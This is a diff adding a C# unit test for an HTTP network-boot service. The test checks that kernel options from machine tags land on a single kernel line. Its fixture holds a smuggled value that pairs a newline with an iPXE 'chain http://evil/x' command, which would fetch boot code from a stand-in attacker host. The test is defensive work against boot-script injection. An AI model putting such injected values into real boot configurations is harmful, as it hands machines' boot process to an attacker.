@@ -114,6 +114,23 @@ public sealed class HttpBootTests(HttpBootHost host) : IClassFixture<HttpBootHos
     }
 
     [Fact]
+    public async Task A_machine_whose_tags_carry_kernel_options_gets_them_after_the_curtin_separator_on_one_line()
+    {
+        MacAddress tagged = MacAddress.Parse("52:54:00:ee:00:02");
+        MacAddress plain = MacAddress.Parse("52:54:00:ee:00:03");
+        host.Machines.Machines[tagged] = new BootRecord("opt001", "opt", MachineStatus.Commissioning, MachineStatus.New, "amd64/generic", "", "", "", true, "console=ttyS1,115200n8\n  chain http://evil/x");
+        host.Machines.Machines[plain] = new BootRecord("opt002", "opt2", MachineStatus.Commissioning, MachineStatus.New, "amd64/generic", "", "", "", true);
+
+        string script = await ScriptAsync(tagged);
+        string plainScript = await ScriptAsync(plain);
+
+        string kernelLine = Assert.Single(script.Split('\n'), l => l.StartsWith("kernel ", StringComparison.Ordinal));
+        Assert.Contains("log_port=5247 --- console=ttyS1,115200n8 chain http://evil/x BOOTIF=01-", kernelLine, StringComparison.Ordinal);
+        Assert.DoesNotContain(script.Split('\n'), l => l.StartsWith("chain", StringComparison.Ordinal));
+        Assert.DoesNotContain(" --- ", plainScript, StringComparison.Ordinal);
+    }
+
+    [Fact]
     public async Task A_machine_whose_image_is_not_synced_is_told_so_and_boots_locally()
     {
         MacAddress mac = MacAddress.Parse("52:54:00:ee:00:01");
